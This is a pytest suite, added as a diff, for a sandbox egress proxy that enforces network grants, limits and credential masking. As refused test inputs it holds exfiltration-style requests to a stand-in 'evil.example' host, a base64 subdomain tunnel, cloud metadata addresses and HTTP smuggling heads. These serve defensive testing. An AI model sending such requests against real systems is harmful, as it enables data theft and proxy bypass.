@@ -1,0 +1,498 @@
+"""The proxy of a sandbox with servers on loopback in place of the public network: what gets out, what comes back, what is recorded."""
+
+import base64
+import gzip
+import json
+from contextlib import asynccontextmanager
+
+import anyio
+import pytest
+from anyio.streams.stapled import StapledByteStream
+
+from symbi.adapters.egress import About, EgressProxy, dial
+from symbi.audit.event import AuditEventType
+from symbi.errors import Denied, InputError, StoreUnavailable, Unavailable
+from symbi.guard.permit import Authority
+from symbi.sandbox.egress import EgressLimits, parse_grant
+from symbi.testing.clock import ManualClock
+from symbi.testing.outside import LOOPBACK, OutsideAuthority, outside_server, say
+from symbi.types import AgentId, EffectId, RunId
+
+pytestmark = pytest.mark.anyio
+
+SECRET = "sesame-4711-open"
+ABOUT = About(AgentId("agent"), RunId("run"), EffectId("effect"))
+FEW = 0.1  # seconds for what is to be given up
+
+
+class Pipe(anyio.abc.ByteReceiveStream, anyio.abc.ByteSendStream):
+    """One direction; what is written is there to be read."""
+
+    def __init__(self):
+        self.data, self.over, self.moved = bytearray(), False, anyio.Event()
+
+    async def receive(self, max_bytes=65_536):
+        while not self.data:
+            if self.over:
+                raise anyio.EndOfStream
+            await self.moved.wait()
+        taken = bytes(self.data[:max_bytes])
+        del self.data[: len(taken)]
+        return taken
+
+    async def send(self, item):
+        await anyio.lowlevel.checkpoint()
+        if self.over:
+            raise anyio.BrokenResourceError
+        self.data += item
+        self.move()
+
+    async def send_eof(self):
+        await self.aclose()
+
+    async def aclose(self):
+        self.over = True
+        self.move()
+
+    def move(self):
+        self.moved.set()
+        self.moved = anyio.Event()
+
+
+class Line(StapledByteStream):
+    async def send_eof(self):
+        await self.send_stream.aclose()
+
+
+def both_ends():
+    there, back = Pipe(), Pipe()
+    return Line(there, back), Line(back, there)
+
+
+class Proxy:
+    """A session under test, with everything that it did."""
+
+    def __init__(self):
+        self.events, self.dialed, self.resolved, self.slept = [], [], [], []
+        self.names = {}
+        self.ports = {}
+        self.fails = None
+        self.clock = ManualClock()
+        self.session = None
+
+    async def tell(self, draft):
+        if draft.event_type == self.fails:
+            raise StoreUnavailable("the disk is full")
+        self.events.append((draft.event_type.removeprefix("egress."), draft.details))
+        assert (draft.agent_id, draft.run_id, draft.details["effect_id"]) == ("agent", "run", "effect")
+
+    async def resolve(self, host):
+        self.resolved.append(host)
+        if host not in self.names:
+            raise OSError("no such name")
+        return self.names[host]
+
+    async def dial(self, address, port, name, context):
+        self.dialed.append((address, port, name))
+        return await dial(address, self.ports.get(port, port), name, context)
+
+    async def sleep(self, seconds):
+        self.slept.append(seconds)
+        self.clock.advance(seconds)
+        await anyio.lowlevel.checkpoint()
+
+    async def open(self, network, credentials=None, secrets=None, limits=None, context=None):
+        made = EgressProxy(
+            Authority(self.clock), None, self.tell, self.clock, limits=limits, resolver=self.resolve, dialer=self.dial, context=context,
+            sleep=self.sleep, permitted=frozenset({LOOPBACK}),
+        )  # fmt: skip
+        self.session = await made.session(parse_grant(network, credentials or {}), secrets or {}, ABOUT)
+
+    async def say(self, data, *, end=False):
+        """Everything that comes back for what one connection says."""
+        ours, its = both_ends()
+        heard = b""
+        with anyio.fail_after(20):
+            async with anyio.create_task_group() as tasks:
+                tasks.start_soon(self.session.serve, its)
+                if data:
+                    await ours.send(data)
+                if end:
+                    await ours.send_eof()
+                try:
+                    while True:
+                        heard += await ours.receive()
+                except anyio.EndOfStream:
+                    await ours.aclose()
+        return heard
+
+    def kinds(self):
+        return [kind for kind, _ in self.events]
+
+
+@asynccontextmanager
+async def outside(**options):
+    """A proxy that knows `api.example` and a server there, at port 80 and 443."""
+    authority = OutsideAuthority()
+    tls = options.pop("tls", None)
+    proxy = Proxy()
+    proxy.names = {"api.example": [LOOPBACK]}
+    async with outside_server(authority.server(tls) if tls else None) as server:
+        proxy.ports = {80: server.port, 443: server.port, 22: server.port}
+        await proxy.open(context=authority.client(), **options)
+        yield proxy, server
+
+
+def get(target="http://api.example/x", host="api.example", more=""):
+    return f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode()
+
+
+def refused(rule, status="403 Forbidden"):
+    body = f"{rule}\n"
+    return (
+        f"HTTP/1.1 {status}\r\nContent-Type: text/plain\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}"
+    ).encode()
+
+
+async def test_a_tunnel_goes_both_ways_and_is_on_the_trail_before_it_stands():
+    async with outside(network=["api.example:443"]) as (proxy, server):
+        heard = await proxy.say(b"CONNECT api.example:443 HTTP/1.1\r\nHost: api.example:443\r\n\r\n" + get("/x"))
+    assert heard == b"HTTP/1.1 200 Connection established\r\n\r\n" + say()
+    assert [one.target for one in server.asked] == ["/x"]
+    assert proxy.events == [
+        ("connected", {"effect_id": "effect", "host": "api.example", "port": 443, "address": LOOPBACK, "tunnel": True,
+                       "tls": False, "method": "CONNECT"}),
+        ("closed", {"effect_id": "effect", "host": "api.example", "port": 443, "address": LOOPBACK, "sent": len(get("/x")),
+                    "received": len(say()), "rule": ""}),
+    ]  # fmt: skip
+    assert proxy.session.totals() == {
+        "connections": 1, "refused": {}, "sent": len(get("/x")), "received": len(say()), "pinned": {"api.example": [LOOPBACK]},
+    }  # fmt: skip
+
+
+async def test_a_request_is_written_anew_and_its_answer_too():
+    async with outside(network=["api.example:80"]) as (proxy, server):
+        server.answer = lambda _: (
+            b"HTTP/1.1 103 Early Hints\r\nLink: x\r\n\r\nHTTP/1.1 201 Made\r\nKeep-Alive: 5\r\nConnection: x-mine\r\nX-Mine: 1\r\n"
+            b"X-Yours: 2\r\nProxy-Authenticate: Basic\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\nTrailer: 1\r\n\r\n"
+        )
+        heard = await proxy.say(
+            b"POST http://API.example:80/a?b HTTP/1.1\r\nHost: api.example:80\r\nTransfer-Encoding: chunked\r\nX-Own: 1\r\n"
+            b"Proxy-Connection: keep-alive\r\nTE: trailers\r\nConnection: x-hop\r\nX-Hop: 1\r\n\r\n4\r\nbody\r\n0\r\nX-Late: 1\r\n\r\n"
+        )
+    (asked,) = server.asked
+    assert (asked.method, asked.target, asked.body) == ("POST", "/a?b", b"body")
+    assert asked.headers == (
+        ("host", "api.example"), ("x-own", "1"), ("transfer-encoding", "chunked"), ("connection", "close"),
+    )  # fmt: skip
+    head, _, body = heard.partition(b"\r\n\r\n")
+    assert head.lower().split(b"\r\n") == [
+        b"http/1.1 201 made", b"x-yours: 2", b"transfer-encoding: chunked", b"connection: close"
+    ]  # fmt: skip
+    assert body == b"3\r\nabc\r\n0\r\n\r\n"
+
+
+async def test_a_client_that_waits_for_a_word_gets_it_and_an_old_one_gets_no_chunks():
+    async with outside(network=["api.example:80"]) as (proxy, server):
+        server.answer = lambda _: b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n"
+        heard = await proxy.say(get().replace(b"HTTP/1.1", b"HTTP/1.0"))
+        assert heard.endswith(b"\r\n\r\nabc")
+        assert b"chunked" not in heard
+        heard = await proxy.say(
+            b"PUT http://api.example/ HTTP/1.1\r\nHost: api.example\r\nExpect: 100-continue\r\nContent-Length: 2\r\n\r\nhi"
+        )
+    assert heard.startswith(b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200")
+    assert server.asked[-1].body == b"hi"
+
+
+@pytest.mark.parametrize(
+    ("said", "rule"),
+    [
+        (get("http://evil.example/?data=all-i-know", "evil.example"), "egress.host"),
+        (get("http://c2VjcmV0.tunnel.api.example/", "c2VjcmV0.tunnel.api.example"), "egress.host"),
+        (get("http://api.example:22/", "api.example:22"), "egress.port"),
+        (b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n", "egress.host"),
+        (b"CONNECT api.example:25 HTTP/1.1\r\n\r\n", "egress.port"),
+        (b"CONNECT 8.8.8.8:53 HTTP/1.1\r\n\r\n", "egress.host"),
+        (b"TRACE http://api.example/ HTTP/1.1\r\nHost: api.example\r\n\r\n", "egress.method"),
+    ],
+)
+async def test_what_is_not_granted_is_refused_by_name_of_the_rule_and_nobody_is_asked(said, rule):
+    async with outside(network=["api.example:80", "api.example:443"]) as (proxy, server):
+        assert await proxy.say(said) == refused(rule)
+    assert (server.connections, proxy.dialed, proxy.resolved) == (0, [], ["api.example"])
+    ((kind, facts),) = proxy.events
+    assert (kind, facts["rule"]) == ("refused", rule)
+    assert "data" not in json.dumps(facts)
+
+
+@pytest.mark.parametrize(
+    "address", [LOOPBACK[:-1] + "2", "169.254.169.254", "10.0.0.7", "100.100.100.200", "168.63.129.16", "::1", "fd00:ec2::254",
+                "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe"]
+)  # fmt: skip
+async def test_a_name_with_an_address_that_is_not_public_is_no_grant_though_another_of_them_is(address):
+    proxy = Proxy()
+    proxy.names = {"api.example": ["1.1.1.1", address]}
+    with pytest.raises(Denied) as caught:
+        await proxy.open(["api.example:443"])
+    assert caught.value.code == "egress.address"
+    assert (proxy.dialed, proxy.events) == ([], [])
+
+
+async def test_an_address_of_this_machine_is_no_grant(monkeypatch):
+    monkeypatch.setattr("symbi.adapters.egress.outward.own_addresses", lambda: frozenset({"1.1.1.1"}))
+    proxy = Proxy()
+    proxy.names = {"api.example": ["1.1.1.1"]}
+    with pytest.raises(Denied, match="this machine"):
+        await proxy.open(["api.example:443"])
+
+
+async def test_a_name_without_an_address_is_said():
+    with pytest.raises(Unavailable) as caught:
+        await Proxy().open(["api.example:443"])
+    assert caught.value.code == "unavailable.name"
+
+
+async def test_a_name_keeps_the_addresses_that_it_had_when_it_was_granted():
+    async with outside(network=["api.example:80"]) as (proxy, server):
+        proxy.names = {"api.example": ["169.254.169.254"]}  # rebound
+        assert (await proxy.say(get())).endswith(b"hello from outside")
+        assert (await proxy.say(get())).endswith(b"hello from outside")
+    assert (proxy.resolved, server.connections) == (["api.example"], 2)
+    assert {address for address, _, _ in proxy.dialed} == {LOOPBACK}
+
+
+async def test_an_address_of_a_name_that_does_not_answer_is_passed_over():
+    async with outside(network=["api.example:80"]) as (proxy, server):
+        proxy.ports = {}
+        heard = await proxy.say(get())
+    assert heard == refused("egress.unreachable", "502 Bad Gateway")
+    assert [(kind, facts.get("rule")) for kind, facts in proxy.events] == [
+        ("connected", None),
+        ("closed", "egress.unreachable"),
+    ]
+    assert server.connections == 0
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",  # TLS to the proxy itself
+        b"\r\n\r\n" + get(),
+        get(more="Content-Length: 5\r\nTransfer-Encoding: chunked\r\n"),
+        get(more="Content-Length: 1\r\nContent-Length: 2\r\n"),
+        get("/x"),
+        get(host="evil.example"),
+    ],
+)
+async def test_a_head_that_could_be_read_in_two_ways_reaches_nobody(said):
+    async with outside(network=["api.example:80"]) as (proxy, server):
+        assert await proxy.say(said) == refused("egress.malformed", "400 Bad Request")
+    assert (server.connections, proxy.kinds()) == (0, ["refused"])
+
+
+@pytest.mark.parametrize("body", [b"zz\r\nabc\r\n", b"3\r\nabcX\r\n0\r\n\r\n", b"-1\r\n", b"3 3\r\nabc\r\n0\r\n\r\n"])
+async def test_chunks_that_could_be_read_in_two_ways_end_the_connection(body):
+    async with outside(network=["api.example:80"]) as (proxy, server):
+        heard = await proxy.say(
+            b"POST http://api.example/ HTTP/1.1\r\nHost: api.example\r\nTransfer-Encoding: chunked\r\n\r\n" + body
+        )
+    assert heard == refused("egress.malformed", "400 Bad Request")
+    assert server.asked == []
+    assert proxy.events[-1][1]["rule"] == "egress.malformed"
+
+
+async def test_a_second_request_on_the_same_connection_is_not_read():
+    async with outside(network=["api.example:80"]) as (proxy, server):
+        heard = await proxy.say(get() + get("http://api.example/second"))
+    assert heard.count(b"HTTP/1.1") == 1
+    assert [one.target for one in server.asked] == ["/x"]
+
+
+async def test_a_head_that_does_not_end_is_given_up_by_time_and_by_size():
+    async with outside(network=["api.example:80"], limits=EgressLimits(head_s=FEW)) as (proxy, _):
+        assert await proxy.say(b"GET http://api.example/ HTTP/1.1\r\nX:") == refused(
+            "egress.time", "408 Request Timeout"
+        )
+        large = refused("egress.head", "431 Request Header Fields Too Large")
+        assert await proxy.say(b"GET http://api.example/ HTTP/1.1\r\nX: " + b"x" * 20_000) == large
+        assert await proxy.say(get(more="X: " + "x" * 17_000 + "\r\n")) == large
+    assert proxy.kinds() == ["refused"] * 3
+
+
+async def test_who_says_nothing_in_a_tunnel_is_cut_off():
+    async with outside(network=["api.example:443"], limits=EgressLimits(idle_s=FEW)) as (proxy, _):
+        heard = await proxy.say(b"CONNECT api.example:443 HTTP/1.1\r\n\r\n")
+        assert heard == b"HTTP/1.1 200 Connection established\r\n\r\n"
+        assert (
+            await proxy.say(
+                b"POST http://api.example:443/ HTTP/1.1\r\nHost: api.example:443\r\nContent-Length: 9\r\n\r\n"
+            )
+            != b""
+        )
+    assert proxy.events[1][1]["rule"] == "egress.time"
+
+
+async def test_more_bytes_than_granted_do_not_get_out_nor_in():
+    limits = EgressLimits(sent_bytes=1000, received_bytes=2000)
+    async with outside(network=["api.example:80", "api.example:443"], limits=limits) as (proxy, server):
+        post = b"POST http://api.example/ HTTP/1.1\r\nHost: api.example\r\nContent-Length: 5000\r\n\r\n" + b"x" * 5000
+        assert await proxy.say(post) == refused("egress.bytes")
+        assert server.asked == []
+        server.answer = lambda _: say(b"x" * 5000)
+        assert (await proxy.say(get())) == refused("egress.bytes")
+        heard = await proxy.say(b"CONNECT api.example:443 HTTP/1.1\r\n\r\n" + b"y" * 1001)
+        assert heard == b"HTTP/1.1 200 Connection established\r\n\r\n"
+    totals = proxy.session.totals()
+    assert totals["sent"] <= 1000
+    assert totals["received"] <= 2000
+    assert totals["refused"] == {"egress.bytes": 3}
+
+
+async def test_bytes_pass_at_their_rate_after_a_burst_of_one_second():
+    limits = EgressLimits(bytes_per_s=1000)
+    async with outside(network=["api.example:80"], limits=limits) as (proxy, server):
+        server.answer = lambda _: say(b"x" * 9000)
+        heard = await proxy.say(get())
+    totals = proxy.session.totals()
+    assert heard.endswith(b"x" * 9000)
+    assert sum(proxy.slept) == pytest.approx((totals["sent"] + totals["received"] - 1000) / 1000)
+
+
+async def test_connections_are_bounded_at_a_time_and_in_all_and_a_flood_fills_no_trail():
+    limits = EgressLimits(at_once=1, connections=4)
+    async with outside(network=["api.example:443"], limits=limits) as (proxy, _):
+        ours, its = both_ends()
+        async with anyio.create_task_group() as tasks:
+            tasks.start_soon(proxy.session.serve, its)
+            await ours.send(b"CONNECT api.example:443 HTTP/1.1\r\n\r\n")
+            await ours.receive()
+            assert await proxy.say(get()) == refused("egress.connections", "429 Too Many Requests")
+            await ours.aclose()
+        for _ in range(30):
+            await proxy.say(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n")
+    assert proxy.kinds() == ["connected", "refused", "closed", "refused", "refused", "refused"]
+    assert proxy.session.totals()["refused"] == {"egress.connections": 29, "egress.host": 2}
+
+
+@pytest.mark.parametrize("kind", [AuditEventType.EGRESS_CONNECTED, AuditEventType.EGRESS_CLOSED])
+async def test_without_the_trail_there_is_no_connection(kind):
+    async with outside(network=["api.example:80"]) as (proxy, server):
+        proxy.fails = kind
+        first = await proxy.say(get())
+        before = server.connections
+        proxy.fails = None
+        assert await proxy.say(get()) == refused("egress.audit", "503 Service Unavailable")
+        assert server.connections == before
+    if kind == AuditEventType.EGRESS_CONNECTED:
+        assert first == refused("egress.audit", "503 Service Unavailable")
+        assert (before, proxy.dialed) == (0, [])
+
+
+async def test_a_connection_that_is_cancelled_is_recorded():
+    async with outside(network=["api.example:443"]) as (proxy, _):
+        ours, its = both_ends()
+        async with anyio.create_task_group() as tasks:
+            tasks.start_soon(proxy.session.serve, its)
+            await ours.send(b"CONNECT api.example:443 HTTP/1.1\r\n\r\n")
+            await ours.receive()
+            tasks.cancel_scope.cancel()
+    assert proxy.events[-1][1]["rule"] == "egress.cancelled"
+
+
+KEY = {"network": ["api.example:443"], "credentials": {"api.example": "key"}, "secrets": {"key": SECRET}}
+
+
+async def test_a_credential_is_put_in_on_the_way_out_and_the_sandbox_never_has_it():
+    async with outside(tls="api.example", **KEY) as (proxy, server):
+        heard = await proxy.say(
+            get(more="Authorization: Bearer placeholder\r\nRange: bytes=0-3\r\nAccept-Encoding: gzip\r\n")
+        )
+    (asked,) = server.asked
+    assert asked.all("authorization") == [f"Bearer {SECRET}"]
+    assert (asked.all("accept-encoding"), asked.all("range")) == (["identity"], [])
+    assert heard.endswith(b"hello from outside")
+    assert proxy.dialed == [(LOOPBACK, 443, "api.example")]
+    assert proxy.events[0][1]["credential"] == "key"
+    for told in (
+        heard.decode(),
+        json.dumps(proxy.events),
+        json.dumps(proxy.session.totals()),
+        repr(proxy.session._outsides),
+    ):
+        assert SECRET not in told
+
+
+async def test_a_header_of_another_name_is_put_in_too():
+    changed = KEY | {"credentials": {"api.example X-Key": "key"}}
+    async with outside(tls="api.example", **changed) as (proxy, server):
+        await proxy.say(get(more="x-key: mine\r\nAuthorization: own\r\n"))
+    assert (server.asked[0].all("x-key"), server.asked[0].all("authorization")) == ([SECRET], ["own"])
+
+
+async def test_a_credential_goes_to_nobody_who_cannot_show_that_he_is_it():
+    async with outside(tls="evil.example", **KEY) as (proxy, server):
+        assert await proxy.say(get()) == refused("egress.unreachable", "502 Bad Gateway")
+        assert server.asked == []
+    async with outside(**KEY) as (proxy, server):  # no TLS there
+        assert await proxy.say(get()) == refused("egress.unreachable", "502 Bad Gateway")
+        assert await proxy.say(b"CONNECT api.example:443 HTTP/1.1\r\n\r\n") == refused("egress.tunnel")
+        assert server.asked == []
+
+
+def shapes(secret):
+    data = secret.encode()
+    return {
+        "as it is": say(b"you sent " + data),
+        "in a header": b"HTTP/1.1 200 OK\r\nX-Echo: Bearer " + data + b"\r\nContent-Length: 0\r\n\r\n",
+        "in the reason": b"HTTP/1.1 200 " + data + b"\r\nContent-Length: 0\r\n\r\n",
+        "in a redirect": b"HTTP/1.1 302 Found\r\nLocation: http://evil.example/?" + data + b"\r\nContent-Length: 0\r\n\r\n",
+        "over two chunks": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n" + data[:5] + b"\r\n%x\r\n" % (len(data) - 5)
+        + data[5:] + b"\r\n0\r\n\r\n",
+        "in base64": say(base64.b64encode(data)),
+        "in base64 behind a letter": say(base64.b64encode(b"u" + data)),
+        "in base64 behind a user": say(base64.b64encode(b"user:" + data + b":x")),
+        "in hexadecimal digits": say(data.hex().upper().encode()),
+        "in capitals": say(data.upper()),
+        "percent-encoded": say("".join(f"%{one:02X}" if one == 0x2D else chr(one) for one in data).encode()),
+        "packed": b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(gzip.compress(data)) + gzip.compress(data),
+        "in part": b"HTTP/1.1 206 Partial\r\nContent-Range: bytes 0-3/20\r\nContent-Length: 4\r\n\r\n" + data[:4],
+    }  # fmt: skip
+
+
+@pytest.mark.parametrize("answer", shapes(SECRET).values(), ids=shapes(SECRET))
+async def test_an_answer_in_which_the_credential_shows_does_not_come_in(answer):
+    async with outside(tls="api.example", **KEY) as (proxy, server):
+        server.answer = lambda _: answer
+        assert await proxy.say(get()) == refused("egress.credential", "502 Bad Gateway")
+        assert len(server.asked) == 1
+    assert SECRET not in json.dumps(proxy.events)
+
+
+async def test_an_answer_that_is_too_large_to_be_looked_through_does_not_come_in():
+    limits = EgressLimits(masked_bytes=1000)
+    async with outside(tls="api.example", limits=limits, **KEY) as (proxy, server):
+        server.answer = lambda _: say(b"x" * 1001)
+        assert await proxy.say(get()) == refused("egress.bytes", "502 Bad Gateway")
+
+
+@pytest.mark.parametrize("value", ["two\nlines", "a\r\nX: y", "sch\u00f6n-geheim", "", "ab", None, " padded"])
+async def test_a_secret_that_cannot_stand_in_a_header_is_said_without_it(value):
+    with pytest.raises((InputError, Unavailable)) as caught:
+        await Proxy().open(**KEY | {"secrets": {"key": value}})
+    assert "vault://key" in str(caught.value)
+    assert not value or len(value) < 4 or value not in str(caught.value)
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [b"", b"\x16\x03\x01", b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nshort", b"HTTP/1.1 101 Switching\r\nUpgrade: x\r\n\r\n",
+     b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef", b"HTTP/1.1 200 OK\r\nX: " + b"x" * 20_000],
+)  # fmt: skip
+async def test_an_answer_that_is_none_is_said(answer):
+    async with outside(network=["api.example:80"]) as (proxy, server):
+        server.answer = lambda _: answer
+        heard = await proxy.say(get())
+    whole = refused("egress.answer", "502 Bad Gateway")
+    assert heard == whole or (answer.endswith(b"short") and heard.endswith(b"\r\n\r\nshort"))
+    assert proxy.events[-1][1]["rule"] == "egress.answer"
